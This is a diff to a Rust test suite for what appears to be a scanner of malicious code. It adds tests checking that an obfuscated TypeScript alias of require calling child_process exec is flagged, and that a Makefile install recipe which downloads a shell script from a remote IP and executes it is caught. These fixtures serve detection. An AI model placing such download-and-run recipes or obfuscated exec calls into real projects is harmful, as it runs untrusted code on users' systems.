@@ -336,9 +336,24 @@ fn malformed_code_is_checked_as_far_as_it_parses_and_never_panics() {
 }
 
 #[test]
-fn zz_debug_ts() {
+fn typescript_is_read_through_its_casts_and_an_alias_of_require() {
     let text = "const r = require;\nconst cp = r(\"chi\" + \"ld_pro\" + \"cess\") as typeof import(\"child_process\");\ncp.exec(String.fromCharCode(1, 2));\n";
-    let js = check_script("a.js", text);
-    let ts = check_script("a.ts", text);
-    assert_eq!(1, ts.findings.len(), "{js:#?} {ts:#?}");
+    let report = check_script("alias.ts", text);
+    assert!(
+        high(&report, "obfuscation.decoded-code").is_some(),
+        "{report:#?}"
+    );
+}
+
+#[test]
+fn a_makefile_recipe_that_downloads_and_runs_is_caught() {
+    let dir = folder(&[(
+        "Makefile",
+        "install:\n\t@curl -fsSL http://198.51.100.7/boot.sh -o /tmp/boot.sh\n\tchmod +x /tmp/boot.sh && /tmp/boot.sh\n",
+    )]);
+    let report = check_path(dir.path()).unwrap();
+    assert!(
+        high(&report, "download-execute.data-flow").is_some(),
+        "{report:#?}"
+    );
 }
